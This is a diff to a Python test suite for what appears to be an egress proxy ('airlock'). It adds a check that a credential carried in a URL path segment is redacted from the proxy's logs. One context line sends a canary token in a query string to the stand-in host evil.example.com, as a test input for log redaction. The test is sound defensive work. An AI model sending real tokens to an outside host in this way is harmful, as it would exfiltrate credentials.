@@ -391,10 +391,13 @@ def test_logs_hold_no_query_strings_bodies_or_credentials(airlock, standin):
          "-H", f"Authorization: Bearer {canary}-auth", "-H", f"x-api-key: {canary}-xkey",
          "-H", f"Cookie: session={canary}-cookie", "--data", f'{{"prompt": "{canary}-body"}}')
     curl(airlock, f"https://evil.example.com/path?token={canary}-denied")
+    path_token = "q7Zp3CANARYpathToken0123456789"  # a credential carried in a path segment
+    curl(airlock, f"https://api.openai.com/bot42:{path_token}/sendMessage")
     airlock.stop()
     output = airlock.output()
-    assert "request" in output and "/v1/models" in output
+    assert "request" in output and "/v1/models" in output and "/bot42:{id}/sendMessage" in output
     assert canary not in output
+    assert path_token not in output
 
 
 def test_pipelined_requests_are_answered_in_order(airlock, standin):
